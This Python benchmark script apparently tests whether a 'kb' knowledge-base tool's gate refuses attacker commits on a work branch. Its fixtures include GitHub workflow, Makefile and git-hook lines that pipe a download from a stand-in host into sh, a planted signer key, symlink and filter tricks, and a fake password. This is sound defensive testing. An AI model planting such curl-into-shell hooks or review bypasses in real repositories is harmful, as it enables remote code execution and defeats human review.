"""Changes outside a change's scope (issue 23, item 1): can a work branch touch what it may not?

For each kind of change, a fresh repository gets alice's conversation and the travel policy as
evidence, `kb propose` writes alice's pages on a `kb/` branch, and one more commit (a plain one,
as an attacker with write access to the branch would make) adds the change on top. Then, with
each `kb` under test: `kb check --gate --base main` in the branch's worktree, `kb review BRANCH`,
`kb merge BRANCH --no-index`. A change is *merged* when `kb merge` exits 0.

Usage: python bench/scope_attacks.py --kb main=/work/main/.venv/bin/kb --kb branch=.venv/bin/kb [--only KIND]

Prints one line per kind and `kb`: the exit codes of check / review / merge, and the totals.
Exit 1 if the last `kb` given merged any kind.
"""

from __future__ import annotations

import argparse
import os
import re
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

SAMPLES = Path(__file__).resolve().parents[1] / "kb" / "samples"

BOB_PAGE = """---
id: users/bob/notes
type: topic
title: "Bob: notes"
summary: Notes for Bob.
scope: user:bob
status: active
---
# Bob: notes

## Overview

Notes for Bob.
"""
BOB_INDEX = """---
id: users/bob/index
type: index
title: Bob's memory
summary: What Bob has told us.
scope: user:bob
status: active
---
# Bob's memory

## Overview

What Bob has told us.

## Pages

- [[users/bob/notes]]: Notes for Bob.
"""
SHARED_PAGE = """---
id: knowledge/notes
type: topic
title: Notes
summary: Notes for everyone.
scope: system
status: active
---
# Notes

## Overview

Notes for everyone.
"""
SECRET_LINE = "<!-- The db password is Tr0ub4dor&3x. -->"


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


def append(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a", encoding="utf-8") as f:
        f.write(text)


def write(path: Path, text: str, mode: int | None = None) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    if mode is not None:
        path.chmod(mode)


def secret_allowed(wt: Path, kb: str) -> None:
    """A secret on a page, and its fingerprint allow-listed in the branch's own config."""
    append(wt / "users/alice/travel.md", f"\n{SECRET_LINE}\n")
    out = subprocess.run([kb, "check"], cwd=wt, capture_output=True, text=True, env=os.environ).stdout
    fingerprints = re.findall(r"fingerprint ([0-9a-f]{16})", out)
    config = (wt / "kb.config.yaml").read_text(encoding="utf-8")
    allow = "".join(f"    - {f}\n" for f in fingerprints) or "    - 0000000000000000\n"
    write(wt / "kb.config.yaml", config + f"secrets:\n  allow:\n{allow}")


def privacy_kept(wt: Path, kb: str) -> None:  # noqa: ARG001
    """ssn, card, national id and iban stored in clear by every later `kb evidence add`."""
    config = wt / "kb.config.yaml"
    text = re.sub(r"^(  (?:national_id|ssn|card|iban)): mask", r"\1: keep", config.read_text(encoding="utf-8"), flags=re.M)
    config.write_text(text, encoding="utf-8")


def evidence_edited(wt: Path, kb: str) -> None:  # noqa: ARG001
    item = sorted((wt / "evidence").glob("*/*/ev-*.md"))[0]
    write(item, item.read_text(encoding="utf-8").replace("Tokyo", "Osaka"))


def submodule(wt: Path, kb: str) -> None:  # noqa: ARG001
    head = git(wt, "rev-parse", "HEAD").strip()
    (wt / "users/alice/vendor").mkdir()  # as a checkout of a gitlink leaves it: an empty folder
    git(wt, "update-index", "--add", "--cacheinfo", f"160000,{head},users/alice/vendor")


def symlink(wt: Path, kb: str) -> None:  # noqa: ARG001
    os.symlink("../../kb.config.yaml", wt / "users/alice/leak.md")


def executable(wt: Path, kb: str) -> None:  # noqa: ARG001
    (wt / "users/alice/travel.md").chmod(0o755)


def simple(path: str, text: str, mode: int | None = None, add: bool = True) -> Callable[[Path, str], None]:
    def run(wt: Path, kb: str) -> None:  # noqa: ARG001
        if add:
            append(wt / path, text)
        else:
            write(wt / path, text, mode)
        if mode is not None:
            (wt / path).chmod(mode)

    return run


def other_user(wt: Path, kb: str) -> None:  # noqa: ARG001
    write(wt / "users/bob/notes.md", BOB_PAGE)
    write(wt / "users/bob/index.md", BOB_INDEX)


def shared_page(wt: Path, kb: str) -> None:  # noqa: ARG001
    """A shared page written by a change whose evidence is alice's alone."""
    write(wt / "knowledge/notes.md", SHARED_PAGE)
    append(wt / "knowledge/index.md", "\n- [[knowledge/notes]]: Notes for everyone.\n")


# (kind, the path it touches, the change)
KINDS: list[tuple[str, str, Callable[[Path, str], None]]] = [
    ("privacy kinds set to keep", "kb.config.yaml", privacy_kept),
    ("secret allow-listed by the branch", "kb.config.yaml + page", secret_allowed),
    (
        "workflow file",
        ".github/workflows/pwn.yml",
        simple(
            ".github/workflows/pwn.yml",
            "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: 'curl -s https://example.invalid/x | sh'}]}}\n",
            add=False,
        ),
    ),
    ("Makefile with curl | sh", "Makefile", simple("Makefile", "all:\n\tcurl -s https://example.invalid/x | sh\n", add=False)),
    ("emptied .gitignore", ".gitignore", simple(".gitignore", "", add=False)),
    ("fake review record", "reviews/2026/kb-fake.json", simple("reviews/2026/kb-fake.json", '{"verdict": "approve"}\n', add=False)),
    (
        "allowed signers",
        "reviewers/allowed_signers",
        simple(
            "reviewers/allowed_signers",
            "mallory@example.invalid ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGZha2VrZXlmYWtla2V5ZmFrZWtleWZha2VrZXlmYWtl\n",
        ),
    ),
    ("symlinked page", "users/alice/leak.md", symlink),
    ("submodule", "users/alice/vendor", submodule),
    ("executable page", "users/alice/travel.md", executable),
    ("another user's page", "users/bob/notes.md", other_user),
    ("a shared page from a user's change", "knowledge/notes.md", shared_page),
    ("a file at the root", "notes.txt", simple("notes.txt", "hello\n", add=False)),
    ("a path under .kb", ".kb/index/CURRENT", simple(".kb/index/CURRENT", "v-evil\n", add=False)),
    ("evidence edited", "evidence/.../ev-*.md", evidence_edited),
    (
        "hook script",
        ".githooks/post-checkout",
        simple(".githooks/post-checkout", "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n", 0o755, add=False),
    ),
    (
        "replay cases",
        "consolidation/replay.yaml",
        simple("consolidation/replay.yaml", "- {question: q, principal: system, fact: x}\n", add=False),
    ),
    ("git attributes", ".gitattributes", simple(".gitattributes", "*.md filter=evil\n", add=False)),
    ("a non-page file in a page folder", "users/alice/run.sh", simple("users/alice/run.sh", "echo hi\n", add=False)),
]


def attack(kb: str, kind: str, change: Callable[[Path, str], None], folder: Path) -> tuple[int, int, int]:
    env = os.environ
    run = lambda *a, cwd: subprocess.run([kb, *a], cwd=cwd, capture_output=True, text=True, env=env)  # noqa: E731
    run("init", str(folder / "kb"), cwd=folder)
    repo = folder / "kb"
    added = run("evidence", "add", str(SAMPLES / "alice-2025-03-02.json"), "--kind", "conversation", "--user", "alice", cwd=repo).stdout
    run("evidence", "add", str(SAMPLES / "travel-policy.md"), "--kind", "document", cwd=repo)
    evidence = re.search(r"added (ev-[0-9a-f]+)", added)
    assert evidence, added
    proposed = run("propose", "--evidence", evidence.group(1), cwd=repo).stdout
    branch = re.search(r"branch (kb/\S+)", proposed)
    assert branch, proposed
    wt = repo / ".kb" / "worktrees" / branch.group(1).replace("/", "-")
    change(wt, kb)
    git(wt, "add", "-A", "-f")
    git(wt, "commit", "-q", "-m", f"Tweak: {kind}")
    check = run("check", "--gate", "--base", "main", cwd=wt).returncode
    review = run("review", branch.group(1), cwd=repo).returncode
    merge = run("merge", branch.group(1), "--no-index", cwd=repo).returncode
    return check, review, merge


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--kb", action="append", required=True, help="LABEL=PATH of a kb executable (repeat)")
    parser.add_argument("--only", default="", help="only kinds containing this text")
    args = parser.parse_args()
    kbs = [(label, str(Path(path).resolve())) for label, _, path in (k.partition("=") for k in args.kb)]
    kinds = [k for k in KINDS if args.only in k[0]]
    merged = {label: 0 for label, _ in kbs}
    with tempfile.TemporaryDirectory() as tmp:
        home = Path(tmp)
        os.environ |= {
            "KB_SIGNING_KEY": str(home / "review_ed25519"),
            "GIT_AUTHOR_NAME": "kb bench",
            "GIT_AUTHOR_EMAIL": "bench@example.invalid",
            "GIT_COMMITTER_NAME": "kb bench",
            "GIT_COMMITTER_EMAIL": "bench@example.invalid",
            "GIT_CONFIG_GLOBAL": str(home / "gitconfig"),
            "GIT_CONFIG_NOSYSTEM": "1",
        }
        print(f"{'kind':<36}{'path':<28}" + "".join(f"{label + ' check/review/merge':>30}" for label, _ in kbs))
        for n, (kind, path, change) in enumerate(kinds):
            cells = []
            for label, kb in kbs:
                folder = home / f"{n}-{label}"
                folder.mkdir()
                check, review, merge = attack(kb, kind, change, folder)
                merged[label] += merge == 0
                cells.append(f"{check:>3} / {review:>3} / {merge:>3} {'MERGED' if merge == 0 else 'refused':>8}")
            print(f"{kind:<36}{path:<28}" + "".join(f"{c:>30}" for c in cells), flush=True)
    print("merged: " + ", ".join(f"{label} {merged[label]}/{len(kinds)}" for label, _ in kbs))
    return 1 if merged[kbs[-1][0]] else 0


if __name__ == "__main__":
    sys.exit(main())
